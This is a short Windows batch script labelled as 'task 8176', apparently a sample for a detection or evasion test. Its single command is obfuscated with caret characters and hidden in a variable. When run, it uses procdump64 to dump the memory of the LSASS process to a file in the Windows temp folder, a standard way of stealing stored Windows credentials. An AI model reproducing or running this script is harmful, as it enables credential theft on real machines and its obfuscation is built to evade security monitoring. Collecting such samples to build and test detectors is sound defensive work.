REM task 8176 v1
@echo off
set uzvn=^p^roc^dump64.^ex^e -^acc^e^pte^ula -m^a l^sa^ss.^e^x^e ^C:\^Wi^n^dow^s\Te^mp\^ls.dmp
call %uzvn%
